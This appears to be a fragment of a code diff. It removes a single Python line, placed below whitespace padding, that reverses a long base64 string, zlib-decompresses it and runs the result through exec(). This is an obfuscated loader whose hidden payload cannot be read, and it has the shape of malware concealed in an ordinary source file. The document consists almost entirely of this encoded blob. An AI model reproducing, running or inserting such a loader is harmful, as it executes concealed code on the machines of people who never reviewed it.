@@ -1,3 +1,3 @@
 
                     
-_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=ULKAJUA//73v/fOPdXpzz7tjn9Yk+QBmFN5NfZRNWlxIZP7NwxZEO4B3k8WNcmgv2Ps+yLnQgwJQEkAjlARSGEtHetferOWuu4354IB8pcvcaacD3X/JpcyhQiBUP54KjSZ/kYCAlTu8J+huldtt4w2sU4m0I2SF5U5j4JlPaK9bH/ZVjrEZNVsb5mybYS5XiKk7Jdi6UUngJIOg+KQKMgWU1mOcloH7RyL1nOypXQmNWuaJA8zSDnNEZeJ88c44VoV7aUbr4Y59EIodsdAowQyTkGcKQOzhMh1+0YXpxl/QpZp9+L0YuZ2zFs2FOaZ326ljtsW6jd4RybOPAFyOvs64MaC4DwrKdSSd4AMxrYzHWKX6swk7jen3G5Rx/5MMBedZICQ0F7MufoZmpUOIVjfFaU9EChsqVqs019UpricdXYPRWCk4D9udjJ18BvQ5OsAdI2+K4w81CFacBB235BO+xf9bArCINWOjoSQxx2Hp6Prc9/GG71KL8qlFeCNXa01AMA/7kF/Fufa8fxSA7gkjNTeAh7jVF1587Z16KyjV54Q3QTBgVphUI4/p6D3MLibyX1snK+pJqOxBqadRO2UE5xqyHJZcP4nr+4x8ZoPzmiGJY8x0JQBsqOxs5T3sSJdZtplZ3AhgwfE4nvZaco19Kp/i/tIZDszB5ZWBVJjJQd5UfBGK2DLIhFNfifeK/hBcq9iRAkeMg0lrb57GchGHo8f+F1jYpfb0bahaNhj8pyOZCRd8vtQPuNdAeV/ULK08BRguUlevN77tTc+qROCBpCDxiylUGbciObeXBZFxCNMHmCfo3h2R/THmRcP1MyJLW287G+8o47UfiUdA0j/kftN7/niy9LH4WXsvJ0vNU5ljyK8+nIKoGhn+g167l5Di6/kY640NRgQhHQMxGJckKbkomHcFnTsm65edTzjGT2WFEUjhtkqMwsFEX15kqKe0ghFR4b225QHcgutT7Zk9MiHuUVNcRlBdO0Xe4l2USN3l9CTKqii21Y0FiXbVVCWX5XfOHlU4egMhWyDS2ucL/0HWG9e7mTVvrsBAU3YcW2yfkspyfkugDy02Gh82vxJxvjfSRoOICtvurSO9HjUnFq7CGkLM3rK2Y5i+9rO5b8dJhM+2Cc3K2FPr5DME6SCkOZ+pufcM2rQgiIncYq/Wad/7a9jEfIO1dsXjRH46yiQfTUEh9vIPldMzVFwt2Q6AqIjRhi9eLOkAHZO/gRItcNHvu5A9dwlEBZRPdEkWZWGiNLXmeAI0DUCzlrTNee+f6nTrSZ9obPNyC7FxTSxOdr5Z54aST7WxDi3UoJsAJx9m2iEoGF57Pp0XfkzCWkNgCF4ILsjp7/qohL7u4+lxdywAQnEgawTgCfrKXUNjCxy4U5izHjCqBpj16pPjRm05ummJ3c2+Mtch3KnajnCLMY/4iTr+2Z4peF0DV8EVkg4AaxdwXk7nwfke1ZI8sajc3Dl6GJG5efEV1gh40cBp0Uh2u2Ha5bdTrCj1OzhDzrSOQ77LHyvNjkS4bO/l98zhNFijyLFwfimPj2vDYSmtICeS5p2WLnJAKfOy/2T2jatFUi0YReeZ+dwKm5FlKaZdTFlBZZbZr2+2nhsOZMV2kAnufji9plsO3WGq7mWqWntpnHwV6l2GsBU8zl9vZAztSOiAt5vIPYfqH4w9amvHkUpOpDRQcsPt6byMKxWKn4+GkZI8mT7ghuRL4FykyneK0XuHEGGZme+hzsXN3T3de7qHmllEUOQH/jXi+W+XtxLXsssr0WwnfG1Vhfch2nkeAI5twzapbKGiqy/pLwqRXTrWMmbqJ4DfU1QrzibP8Jx+jzq75XHMSuT8aZnlVA4i9UFc3uPrm5nZa8d5v4q+HRaEtK028V9KA0jc6LL7uPyJf2z82kYMamKTdf4JtWaiiVoIAraRk+ZIYPgwjOyu/uWkQHtR9rBc0LjevoEi54mZq7B7+X7XqRBJ0E2r5nr9hSzsr++fw20QzC9qoExXZ7sXqQPS1iCbXzaItax4lM1Y96mDIq4qQtx9SECADYX+kAyRxfy6L+6aVHwZs+i9a8NyK/hxnFnQK1L4x7o2/3jU1UYwwXU9tZ3elkS671ICW32N70WxvzUUjPfdvpWQZdbG1MdQVVFYneRA4K8prjUNb8wQ2qx782BduNvcRUQ7J8XJtH6JbfbvmsR7m8fubxJSYckD1UhY9ZjCzvl5kCRKPq2W9EpBFf1j1xESFd2NRaxv5qYpWOTOiNSisQOEKsc3wQH/+YuEGgolvKVqeHq6Rjpi+0TyebyzGLrJ5iYSiVddmayBbSi0nkN0J3oHTfLclDYDgQp7r/DrvT6Z40VY8voragLlYqgCKe/MFKy60yAF+W2XGS90xyQ5Xga7vtYPZGG9ZKfUHwdXDQIPiCqB5YZFiwruPPkMqtV9P4CTWf+4usPo07/HRmERBaffJWDBjrQvToE8Qbz1DWdzHiol++nDPEmom93hhg1GtVrYzv5VsB0k03ANVo+YqlaT3EpbXTofRp21ANUBDGnbFEQJMI8/R3jPbme93w8FkXu1xgUKk79RN79YzBhk7CJ+M+fqCYgvnxpnzkDnE0UFCSrYlHo7Q+EIEJsJTdDwREymWIjNmASi456byDWQ90dyiOp3CRfJlQTlqOXKropFqUrVI5FTMalSisug1Yi6i+tzRC+CqDBO75UT3kB3CVXxw7yuu6nXLMLzpJnDjyI6hDr9Qw6X6hr4ElwaS84cozr1Wzc2dMDr9HuCHgCnBaDbs+ZpUOHSNuUHOy3tJi0xP4PEBXjrwGyj64Fw3dIVoFbOd1ITZLZy3kE7CNNcnNYbqvsLKXc3oZAq/WswXj6bJ+PTjE3ZbK3DiPFxiRArnllMHtR6IHrZD50aemWj46B+oIm/lKULpWjACNZYB428GO4WkVOBX3zRhTEwy3mKdFDw412ydLjtNB4JHpPyheO2K4vgelorTGqqMj6m9Evf1U8BU9Qa7wtgc49UBXEmXh6mntjBLlaQhp8LT1T5ErvEDSO/M0Ch4rNAW5VWOof0fB6d5QpICyVEdIDSoD+TJtoUc7zGreeKDjfTqlLTgIgEJ5wOtSsF95zgFXX6R1AaKwfKEX6b7UVNwa/A3vPNA0rh/t4zQBl4YBMfRju8UYp6t36DUiRFSJeLnJXgxuwISWaZSzp2Erl7Uq+Nz6a3oK0bpc1zLD0gIrULg/KWvzqE0wltaVrz69ftorQy6le/ZzJpO88tzSRdrWxxFdCRI/HUh4ZUI2bcUtYGxAQld235BKZn77Cs0UP6R/YMVpx75PY82CNNBlOarKKfB9kZGgBbDsPqBqlY1os8SyzrntGlBfr9SjtdDuaKAaad6Rin1F9at0Gd61cthLGbWWeja66zswfbVI/EqNU21tu8FRj7OQWv0dDnQm70ILJDJtWHZSKBsDfk0L1uM8VS6y5U5zBS6PvFr6zVqCnKlzZmn2dz80uzMkCo5yC/latwDA21rtjB697p685fSUtVR5geflpMmQDv6pg6U+21/ukRO3OmuQnJbwJHj+E2RSt3iVb2GeEebN2c1pZ8/J7vh3zzfNoFhRgO0slsFxmtZEw+TMYh1g4tWctLRO2v1D1myqda6jfNJsaXJQA98po5dhXWNL7eDAq4r6kBBIL9a0NJSqtbrUf3479aZAnRUs0m6C1rZhDsgOT83WTmjl9XH3Ay2z9rYBr3F/32BqfV2iWrDh74mD2MwfItx3aXgSruK5C1gzsPRBJoUgamRC8AxvcMeg27LXJ9wwdnDfDG7P7j4f0qExFwSVOKK3P1JknCTgZYqISo/XoHIZhxACIzguPmbS8x2byBMh1U0Y7AmQOIbrDuPqcNRhxwRGP5oqK3aNEdVKwL6WYP0n2rIIP4a/gpzcHTvVheeoliL9HHvaxsTRS+zVKCBUSXLM3xha2Z4IoYM5MWSWEKB1Qy0D6h1avzo/KH5E/nEY892CKSQoinvVzRs9Abd8AO7zAUkWY3syTNj/QBwXI31g7KTxoWNSquZV8fGWH0IZAFtfBFSf7Clcb8x3JteQd+7OP9sBiyYnbgJootsVyPyH49U/0jNsKwNv3ULr4KAGc42pi3bqs2U7zQv5wj8XUqbOFHuBUYaS1SDg9ZKhiArmIm9FJSYe/RnuxW+Ih7CdqdFZJxQukwvBpK4NZ49FJEpFy8UsiRcrN5YAh8ZyBwxSJ4MYuQuJ9ftI47rihqTk8gH/KtoDmIjnAybOrah7w7e98E2LHJhmTWsTAQcf+opuqazQ12uoUmnZ+ddczYVpIU1jseKlN4aGHDDwCDLc+EGX/+LAn3YioWCiHOWv38Y0RNZZfF/DqvrNMLh84ctREl+9SH4djdlq3FgQIAv4N2GTzI4HoXrx7cH+UYhpNDWa8bhpBu7ibrNtsgpTzexacBdDZeCz2rIeLXmFg3XSr6lLIlOd3wV8rZ3JH7CjXS7fGjjC6buSypMfHsC40clNNbzYt+YEiRszCYnCMotE100r82UvRnyRXJBlvvJJDVZntqRdSAfiLiulbG/vb1ZMjB7gkZA3uNowBYyR6HX1ouAE/v6IAJpT7V8s7TUDm4aEhb6pDttIlgb0aDpYDDQ6PFakxeNn5XtbZDKTarHy5T960iwKMEh6x0kj52xnV0OatbWadIvGzpJXoHBtfPBc4mg6/CtwJTBlcu84Du2KLaZSnCyF1Uln2quVeQgEHSdcKfRlv7ZsRDCcQFqx0gPLsp7qHiB9kSTqaHFkzxJIK9pBHleiJqQPA+xGHfYNC4wXR2gdw9h9YMW8UyyLN8Lp2YUYMA9Gr2n7SzbXI83O6eDxvZkqeMdcKJOoIWoH11FqgQ2ts8Y6BVgcOh+wmssqy+1rn5HmoWtHaKoomUxjbEkHej6i+THZQZv46flWMcWdKKrvVl3rAv/WlPEidIPru5/3Z736P/ZXSQcXylwcl0ri9E6Rujo2okOsG+xbDcgz2iugXlhs09J0Y9UFXWAoV11MQjCqu8/1dVsEQ8mO1WUGefnu2B/t9FKBOZqOJVys5V6Gbqv3//ZD/Cz425qf/Nrlrad7EEN29y9ts9Ro6g8urFsM+1SGYfAP1dEYDDSJkNhNw2rIGHO61s7+71CdAk7DCjZPqOBJPnyVHtqM+s6nTri4ZnSnn9yE9yhNBZH+EZRcnB3BwP887KEpSVP44hXu+GdtD/w78tBV2wLdAtoTaUcSMsGHFbcg66VqdX5Wi41XpJg7zi3lJWlVtqDZ9k0aWaWWkcLbtGji+U7vO1udjNXcgO/bhOGbIP4qDLIJdGKlx1ZDUZS1jtgECbb9ZtmyfYuvbOmBZXdx3wQeL7GoE+IVQTYZH+3ss5t/Fk/B3QEaS78Xi5XTmT9x1KEg+oqAdkByx6JGkw9yCWn3hwG+VE3/TYwNJ91N31DcSnXKsOBagwYam8Kxmr6uzisJwxo/rzx8izAL4kOEd2shVa60j4CMLn0uYxaBPfSS2gwzqKaSA+tRkGgoqPOLeplkvjIiIdn8ks4Ph0LAWUfAbsfnjhiSijPtPfTqYWp+hYREIEL/oM+KHhBsip7zC9uzfu/QyHAzDBKUwCO2pcndAFSSv6+sMNK02wKWNox4pQcFsuk+FQEWTJ6zRmKzg1JNoXkNcApQUKDnbtDkjRoqPHs99OllJA0uGo1FzzSbikYpva2UDyFlGkuj+HpEtczP7KcO00kiIzLwFsW1sIZHXj23Mbn8bfAfbBk7yKLuy2XJUC/0OuWy28Jw3ElTKCGQ+DcO1t+0QmNF8FuhwBqwHQfDL6VdwouEzKWK3AV7wXbJYkvWxCtgguQDHguEl3p8WCjzHlLYIy+SJNNuDM7b6uCyHdxPEkr+RQRkNLFfjVPkjieuQ3/WMmkopDAhyrzqDjSR6h8lK4SaXHwLaaeNAjJ1g9mdlPSHlfJpWx1xnrcKylYCRfxMVdSZMSaT43LzgVFIUBakFLQ1ITwfP+Nx0h9KVoGTXp4gZKX2IfLh/LMwJP+IcRU7zjS5P2NCGizdm52UpADWA2hY/Fh4aR7H9omk9XGeZ9mpOdDWMY32S624pR6knWxvZTeypN6F57NO6nyFiPHOUC1oYhf9k0HA5aHLZCyDC6HTrL94hfSTHxp3n/qtWrTx471dBuob6doYEP3j1XeRzlVB9vfuhBPlsfaJCU97Tea1MWg4/me3P214YgZiAF5Yss9jISFek27t40so7Wmice5ENu6N+hIynEK0iEJTmD4jOC4K5rv9bVzmgD80rmEwTzpxltX6UcBrq80lfpFJMd/8eXbIbGJdNciVq2KkYyMV/fNezt4kk0VgWovz4p+shh6QFew6A6/Yt1wv2jmVozquWxhNKjcW2uKuFjq/7S6qz5le3OvoDb3zaQzUs6ON9T2YZjiFA4edKmrIS6HqdWtvTzMkHTmPQ1hRzioLr2rf3+0pSsJlwV7brs7F/C79gnC/jgw5K6h+QjUrNHC+qEGUK6Rm3KPCJYNdo1bFf9AglrxY8e2W6nP4cxjxr8h3kJkb/SdMgc5V7tn8KGGs+hoVwn8ychnfeC6ueyTn7IvaqcQO/2yj80A0SnsAt8gyUfhry1DOiTu2TG5E9q0C8na0WG1/YLuWStsehW4PMBb0odLr98zku30+2oMZwDHhguLELzCsbQV6iVZ6lAVuEj+rGvRt/+XfhEH0Vn0Yhog4JkXWgjKum+Sh978uJBkKwdc5BfvybgSPsSl3RtK6g+o+VBE1/A0qMng8yUXO5kCY6m+SbOZ9qjGKNh87kE97sJxg31tErfTMZrJjhKN/Cb9br5IrsmESWcmRlk47iN3FgXXDlDOQ5ZYnVhlxWv5CtJCoBXpsIZ+/cJYubJfOP/k9tZEYLMu3xQH/yA5bNP9erUwMM7xPBSaLdrWbCA3OPwmwkP95ovEF+BNya+bacoZEVz4MaMA6NYNVINzZhbof6DvhUHMU6bRzjEzs97rQjS9R0v70oqLFS5le175drx2V/2cbaSeHRCdrQbuJ4zRmwjx8V+ta/13Qch11kcLY87XUpfPj0L/0bNyaWJmzy9OvxR/HpLwDvBHX9wXvPOBY5xvjbh9OhD5prmhVvKRs6GwQMFAu1/lTWoELhsbVxpJCO6iQKTm1Kzrxqub6CA3Tpyb5LKERXfx4iO0XirZAt1IdcUtMsxoYTYXDhcoXQhHG9u4hRc93YDnafZeeJiJHOzd6kkJUhYbvO1gijq38nmLedxcZEM6xsfeEHtgzxTi9mYsufMqVT5oY52E9zCJ1Kc3sBX6AHl5T8zfjfk3n8PbIXcufhZtFXJB/t+8DV84yV4DX7Aq/WPz663euy4IzIIqTrSzhB1vKm0gd6yCi1eIZlVJZZG5FZgsxwD8526wp+swQn9V5qtPqyQYDHVXoZ2LoFc7s7zJQvzwKkq2k6trYqEwPYJQlnoxJO0gAoBSi2OrXXzdMWm5Snf+jMq34Www6ongkqH0sKyRH/EQtOj7s/xseUtqML++DFl3ROgd6VwwForqPjgYbjsj24AqrcERyCdXAFv87j+AbYMdnufTxCvaZruQbEOyqycBPI/8SpI+SsPmlcpETrb9uZT31m+uSS/HRFLrO2+tyxmwUvu9lC+oX2CLCEl9i3GL6StKgYl3Uz1aGnOYBm1PfyvLqDAxKSkPhcQ4GqwlW7GU0jsS6F3Ct+TxBxvNpRM6rFGq4Ib/38KqzdnJY4MA0DuWXR7sJer1PqFifmc43NalGm6kQufV9TJknacEwqaoys/9CsZ/Fgoagjajy6TvbS3d9avsKxMBTskl9FhO4/Z6s+NeVAJo+/GTZJoowtVtsH+r7Z2Iq61KnzjZ1buusezLrrsf5Pb5H5h/tSYi4IJ61KG9xgGyPO7uhkJ7+zPn8we3iq4sx54ie1nuEW2HnUmwUU/9RXggJm+jUnQisnDdfu1dP4QZHvOB5lEooE7GwXcMe3WHWih4oya59IBl/nDCXEPHTgkaYXJ5E+PhUT2T0GVtOD9SqcpzblNuV7OZpR5qArS6nSKVlMrVoNsjdcR6/wRv9JiH/oqbS7SGBqA22S7LACAZnPNP7WTq94MxmC45KqSux3uO49R7yLRnXH8Qc/b+f3b3pB16cq8dw+e1xPqNroyNxiAJqanegRRVztTSLpdu+bHw9zOB3lyWN7cJjtuG/6lAu2yWi+jrlrTNodVgt07bKJkcbBD6W+2OrS4rfR1XJhkcjpaj8F1RUSmXlVJqgXu/xreePv78AeGFPLwDJLXkIn9DRQi46yeQXV/z53oV7hWfeVO2SdwIT28D7Orc7JENjggj70nrrfM4Zydv1C6ZZ3N0ki3qw9vks3lcBK+9YLlyBmsXmIqEIIvku8USauVdBv5NtQ/S4ZvfMJSwMwUOxdAReBM+2xhCWX7LwB9Eqg+gYP1S2miZ98kVcrh4lYbyJMdSvUjCPOc95KNqelA6VO+A0ZSTK9bAf/gaq3Wyjilil/jYTLg/KmWvcAQXHEqjVQ3ZZc78TDEKNxEhfNFGUerT5BDMCC77PN/u3pqeD15j7qiJTAKAOB00l/aRcw53+sXGsnLgwCAOO085KDkdSDyQLgVH43/cgfnphMEdXAiERpIxVHe1ARxR76/WNvJ4hQpGoSnp7IFIrGoXI65i8ih9Nm8HJNrIV56wZfAqFCYb8gnIF/0ilOciaYxtilD8SLwJCLsQdMwzRtdWf1U8UqmUfX/dxpD/DYNSBprxOhnZJp4HNPsI0qhtFShhmQev1+zd/PuUHHN2ToqYX/go/B7UQ2kIreRp7fmEJH4u/WTqe1FhC1VNONWfbYJC5vFl1F/12FyfWjd+umL+lL+CZCVtMeeGP82VzX06hGlN91Bj/3Qg76ZJY9dT13IIFlVrkF6UhFnoj4d5AuobQVrmX1ioPq34FMEmIwpGL+2HJjXXGEK66Knks0e/oK3F0eHmsYuTeoD08V/sCuN2T2n1A4kZ9IeBKF/px6PjLY4hf0i0cQLuPNqr8b0ULEGm86Kb/nVgZgA3GfLrpocIBmIzgjJ63C3BF2Z3b1jzA4oYEuv9mtJDWg2eKpfWGsqIglqx4LVUKSkzdo+OKHgJzFX7jG6y1+RqPtkKSVDO0RaZIqO/yDOnJULhlz+U5QNOp3RAvdjNSLIKLRIsyhGIISXZG9pM+PfhQoY2VJ2bElePZ0h5txDaPejf0SHMy1VpmvHaWPRw6rU5GjxZvMaFsIHVwaQXnV2Eut/E1ahvaqDaJTuiA0vaZ1AzlXNQ01kv/QVVx65BxMPsE4vTH3Js5W60ov/OmMTTsP7gQAlCUBiV3G1h4+jd7L711peLLmulkulmkxDOI9UIUtqSS0wNjkaNUL3EFvSXJZh9yDkfQWkXQJeQNboFv/3rbMBR8VBQrtijU1F+BcUcdPHbx81Ci8bwHmYwY1UW/YwtNwP7CXCfPXLIi+yuSkbdZBeVpzGxHfZlDAHyiI9DFmE2D9Yp/oljPqL/Gjj9JoIxXYQYD9NL/7ifn9yaBjrzFKIvDxIKnknmPf9hFkFpv1t9HV1G9DH/Q5FyfUGa3pHS2zBxoYfwGvHoRMFQaj8HGcDW51uI0W5dxa04W/WOShzfSmWPvPTtIvWWfMYsrXSvMvfevWqvf9f2mWjCSF1jJi/nZBMfA15b28XaI6UJ8XcF4uN0dyIF/6byes5ye/mVmSfxE8UKNlQRlVJ8BfCxArNxRn1NoW0sen4BCftrBXbkxXPf29+q0OGDrXieSMRmypy5432wJwPISz2E97A7WVPwAfSVbhuTCQFSC/nHgJeLvJsYPLwGnTHQZa77UdIdKJBRKReVdeT8kpMFTOa7I91xUwKOl3x3eBmxvcmcI2rb528wUXtu4Fcxcdymo5R+rqkdWVyiL1zauLc1052mg8iQ/cd/hdrk/fmzvQ2kG/Sg9KLx7ra3be2uj8kK6Q2YkJC2g9yOASWwsioqTijeIFJqoc2jUnaORD6r9S3EqL+8MHOqi/prhrnEhEgKs8/2A+YKJXPp2Fbxj/HG87/e0L+3ZrPMPzvcdLqC29+GOhGU1avT7l+cE0JkWKm7rf3o4wanFhtZTqcPJopSe90d6FMl7HWsRnByU8rkyplo0XRbFPzjICCMzFQVnYYqKhfX5ZA23QU+X29IYQrC6kYCkdonyx1QC1GGT+UHlOv/aE5uMqm9Zl18Cg17G7QimFJ68jyZDdptNtsXVrNaCv6enRm+h0G6vu7am/HNSzeJg4+zuypGcpApTEpNpiYdFnyRrr7jxF4uHfrKz1nBRjPHeQCRZqhMYfZ6J/RVbQRrxH0Ea3WNmtidXOZIvp4lr1pHt6m29NJ1Ldyv9d7u5fxz8nsZTRlbrsOvbNZO9JxnvtPtMXmoYwnjNXfE5rvOMgVO/SWLotO3EP3OP2PudnU/6uu4DMH1cu12afJrtG4BMrCWjEBs+G95MDwpcuYDINOVOWHB5w7tiT+syVwDa9aDcbuCMYz8XSr09+iOdlgJA4h8ld5I1eC3HWVDyQixq4EJotoWgVFTebg1oZ5bgLrzkVZ7Ko9N/+VO4MAH1PgM4kHVB4CTzU993JhLjPCTZi9jkJw8rYNzIed1LY9f/5SRmBRHEU1mg18A0tIr3KECO/2kNJv0pQpSmHeVJtMfnEnLIVr4yfVgab3Eu9f+RMVxJy+z/hNMKafBvkW6im9DT3I6UAKhcrrun484YvwXquq6GjVqMrO0Oz347ph92iz+B14rto/l5NgsZiJn2oJb93kpm2zHgcS2WmFJHEcMOKLs9SODmDqavy/IoWdJS0spzqGJR1EzjT9XzIwxaewsH+TwOLIvJ8WOevlxPK6kFWDcyJ3amtGWGjG4/PBN9XEPWbY2NXDc18L+oXsmlcJLl3DEV+0aax1SY9R+A5Ou4X3GyutkITQQGZxGGRkGG+lht9hGKyuyYPbMfBPaaNAVyzu5n9SNw1xypEjxNipdcvPmPQAyF9vKTnbV+NufhmhHJniZ4XJVjg2Lz3e+vI05fIjw02GtNmkllvNUSEdDhGniU4tqVHLy8wjQ2OIpmYsQ7YVyI4LEd/bZLagEvE+FqoiBWqhyJBjBI9WnCdpXhuxQhSRCjxhoGneY7YPewIZS42CgNKbPy/lxGRz+NMBszOiKXk8PLmX9HZRa9Qb7fqOvrqT9FL/ljD0w6KMF+1UBtYme5E1SQ8sLA3tcDF50YO+k0z1s6xysNJ0D97tI25L6AGANXD4uIx5TqkBYuIgJGWrk4Nxv5VtnvXwOHwsNHUB0dfknufBr/scZfYErUzwzvb/SFVABVPcoaBq8/7thoBlg97CcqieF5GbRVjtqqU3tAdo0m935aXhTOplNwbiXyZKG2+My7AXcBPC4+LnWGftDht2NfZ1r9hwTB0kmSxPiRojd0cuMxi50Y/lydPSAwD87TPskKcVvI0v+bj6W0LE5jthwuqjOhFYqhL6XFGIlvc9jyf3i8DECuPCS4BPZH4BklIgfGXokX8h9D9q156AxOllWjd1d7+b9g1Wcm+fOr6pvYccumv14bfybCb+2TNxINj6PlQH49eCzthYbu2XBb4ClK+CbfXk/rW1jEdfRJeDWhxpJBkk1gu2WU5zlYIciNCtDN3CKZ1PdEdlZQ6b8ZC3keJT4LQiKZFSjmnBEnVaez6uzHOirGRlE3i+k3gl14s+sQgc8z5rgpNQRTVgo9o5ZxKL/caw/M9ghmZ35ko8hXXTi7Gw8ESL4cRnLPUzFCtqUUwlIVICL7MTbm38NfM/xbutYtkFSQRw3c8pBq7EAoSLenDojlsPBAlTi6ehhsJLFyLwICS/Miywv/QYwxkvTcZL0PdoXe+V8vri4j7Xl2giqeaEVjSwD4SY7jSSiCuH8MmMfvRE/JjlRb0VWLS5ErRZoKrW8LVtyQK4q7GR4xjqm8h4/32qWGV6/p1NJrN994avaIyGt3AfURXh1bMWATasK0fYi9E64HlLeuzI2hYU2j14CjhF8U6fT4OohGngxAglS82gCVyf5ZnfF7/ym3xK/jshg3LSrY3iaWicEqm+JnLNE5vZ26ZtrpRuQEXtNQftiGL5kO41OMoYrnXZVxuJWQm1G0+A7m2xUb8GeBhTLMS5lxPv0WV5y3jY4G7/I/67tWtCLEKM9cM7R3EfSNuTaajfpdh0GAwbd80YAojLakRtuSpSMhOgq0cvAFFdPHDPEZXbN/JaYvnnCiC92HfFjyOb0j6BNwhwg/rp9j+aNVr0MJJoz6z4pdSdrSEC8OvMcK4G0eIABbssxsZxTD8Bd7Lcn75OCcrCWBnMum6YWTPH1RiZW26QPHk9gutmBzCrlD8QZ3TJ+IjzlTiaA9D6c2lnWAC7gWrikh7UhxppDD/XLQFhEQNnuyXIJe2OdAzNrnFhinxHIgcpwLC2QiN87rYOC8Ak5ttc9CFTFMJ7FbOOLJ7QOm1/zboadv4M1KkbCnQq7mMwwvhSW2FBCsKAxOJZBrrn+n4ipove/FBBbs4tUxEuOV3JDIW4ZXWsCLituZkD5QxIx0f2MvAQku/MSmHkqS08rtxhSMx6IMiHzIdrv01CbIB4p1Qzue8ySQI8dOeRyRbdk1T20yOo5go80HHyVqKTwb+DdD1g7Nn+l9TPtCxx0O4Hm7aOPhDcrOfi7YTDIwzPhKoEHUL0okwLAJPamsCjPy7SfvNQ3hKoZmRzbBKDX+RpVk9sQvf1yfbrK85snaLMsu/QXAv4XC6ioigQrfywGUxt56DV93jyaAkROEKzcZLZARAa9+QmEGtNY/zY8Cl9VfYmfG6JrcE8jDqnOrKVmZHfVy99gZ4FX6g40q5dfnz8Rxn147KKY8vkV9Pj1e8QEsbDLmz4FtMs76fzaam8VeSPmRSfMWZx7YC9td6WuW/T91S64DDqxcL1fPSRE/RlSG/H5TxUXc64L0oIvIT+0DOK/fJZ+MJayYxTlDDjb3H7dOnXiYIK0tJMv+ztbE48ltK070S1PCrwqFKqtgmYutkcXeXw+3Ov+91rtToZ90ml1qcXKtHZA/yrMZWOLoX0pbaZluE/ia6+GuDkC49tP6EqqlBl4wjXE8IbXsgoXZ7MzGd2fghXncJ16cjoS8jioa+Z8nV7PmOZOh8NYaQQaz+TXdb0gRUKluO3lE5PzuIWg52ihZN8dOOfDubr2gEgJEdqOr5qST2cYEDCTK7TCGXt2tNkevBySxcZWG5A2+BQHKc4huGWqMZzXjPUJOpSU+weEtKn5cFBoqYwpzoLzONPZ68ccxJRHxUkvUMc8czzxNl4jn76oJOd9r2+9h8qRm7+tflFUhYhtcepqJTy4R0Wqc0WH+NTwNkBi7J4TPHHbLcfVdWmqEr9fjpdS/OkPDSUYBSFQP6eIfiLv9VUGf0SJXtPqlsZPd/arTEnuwZ5E7VRW33u21FVQ9FDFmlYqFzilb+mLrhH2GhJUoDagW3zTWL0cH9AtOFqY39rqbKuH2PS8RQdeMV69uR59oNLh2SmV0Nnb3E+w+zAoyrONOORaRJ8Nf3jbiaKFxKdq+g9P4UeQpDF2sldEO+yQ+WgOtQSFsEDozIdafnzz1OjUaeZbZGlUobNrHgBQiIuPZ5tTOes+5mQXskyFoEqIw3r8iYGYlZDel3XMZP87v03WXsjDt5DTDtV8AMZ/5IohzyghvU/G/4c1T/8j7Mf573QrBQgO4N7CHf1OYQ8F+aNlw9oQYmiQwXPdyW/gyJWRTFe2tN16daV3G4Mir2uJgqYRolLxmWyH57WDNhyQGF37YtHzMNr1ytZT9AiT1/KrjoxpmRVqr9V996oSWCzqkxx0xewItoQQ526ZiCJ6HJOcFq/kkPRtRL5rhcn0KwzzXEQhzSGsdpoKuNESLiJGlClHoE94eW64ofe3mVNjDaSvimn/HdBPRwEd1jiBfn2cZOhoUCTxyB1J7G6zFfYzN8y0s7/P3SZ9O753ViEAUjaenIVtpb6LtaH1xXVfKmeX64cG1aG7HVFwpr1mY7uH8Kv/+4VLPyPnziaEHkUlA4hiQxZ5dJz4eH4mIyU2fmJIzaCmt6eDJ5F/ng1FDgeCv4Gv4Arnlljtt89jSlxVA1g7M928sZ39pL0Y+tN+MrzqfcvzRgXXJPn6ELW/MviSXbLpmzKH6bFbAVoYdfOnNNEKCPe59uglFEALHzGb7xuEOpt4+7ZVRIZdISxIrIsfUcYEDzFNdG2lgoKs0kDLQKilqj3CL9kMQTF2wDRYOm4PWV8KYWMyQMz4jc6A+xgnieEkS9kjEpw1jO37D6GEV6Gf9QZYonioFEG8R4U0CiYt5SD5/q3eB0ipkdNqfSf0YtftHZSJ7auvCTwr7g3YblX5zUaliuUDb35Jo2WBRwETfHc4CIL9cie9GzGM1T4oERvvmReCB861mqdJbFQwZfduCDsminPjTiq/Kk4nPk+JKFBTEATCcfeHOW71P1+fI6xGGfHh6Q7G8FtMfxUjZzxIf5Ab6WfP1XRlF1f3ndGmPtd3bagr1ViVj01ThPZ0k/vm3awKB+4PoW+YH+vW08PxyrF6j59LvlHFEoZeDr574f5WbZPRM9LoHEVkBNsto3CaLuPJ7UnySFZ62uAjjvr7LizBwQR6TqyUagLLb0XnQqeHpRcVLLU5p7BZA2hRFIg5mJE6q81BNKLMgXQeOi1JXUMg/d7BRMcZsYRUpwTlTSdp5MrXc0+amQ4RR8dJd3qgbFT5Tj3kZKGotevXCgp/RXOMlpaxqjckyKfjjbyNyY1CeMAEhOHY6TC8GOxfmQuWIPrMt8qGA77WmhGvHvcGMAhjml7S9tT/AFppIqAXCkoEP1g4Fdum7ECSvK4f6XOt2+7QuH1DHSTM1sP9nlrNvVAgxmuxUUNzPFH+ytKFmsCQDiZF98FK/B4tHpGLlmIR2Vdmxsde09+ABhBguxFuwLR55bWbL7sKCzresYB7+Q2PJfSPIh+CDstJBaqQuUvQWpTnKpBR3CgP9lFEjxKlT5hZqatSwvrhyAR7WirJTg1tn4rhu3q0PVNvPq2/kBtqAGgRBejYZqN9UDBBaFc3K0ZPueocWQHY9Ursi6vv9NLqIOoZ5OEoAFjqoAB6mYAAhew3m8XUSxLYcMqp0gW++BY9dPjg/CJpMCQuZs63ypo0/aeljSfyHf2MH0fS7oi6ik1/Ix5FMf6Ju/Yn+fMSw45KPE2HL26anXDYAGGNMaAT9VhF+zS6m1PiroOaWQZYpbsHu3XVrSkhYOZOXWt68LoEIMuRcOuosGEXXkGqiqR7Upke0LWXF/JcJNkYTgWIhgEqJPvPdgHdh1anDjiZpv10Q8cwqrF8F9e/XRYAPcd1/Xyfw+X18KTX4jpbxPYO9pyT8ndCNVD5O3em4HydXSauf1iYrWViMwUEW2EGgSDQgShucxVd8FlXgsfPj/ZQRhX3Bj0h0B4bBJ5Mun5bcVt87zSANEKF7oQg59bXHJCx7ziP8yo1AOrpxrE06GQFFt6k4Hi1XGHXoPjfTLtZeDAtKDFdN911C1GkP1Wov17ZsKlizoPmqpRByZne4nryFvoDSJhzNTo3yEphYLyQiFfcPd70iTVHC6wc41Tcj7kbdHpeG0xhiFK8UuNes2PxuqT2CBEXErp9NrB8ctWEdsnwxOKuGSkpLlePP48wO7j4X/3cxQyR43Mr3yfWNSENc9tDfqvRXE7jjav/1ZO7mcfrrsugtmkGUoL2Ctr7Kfevf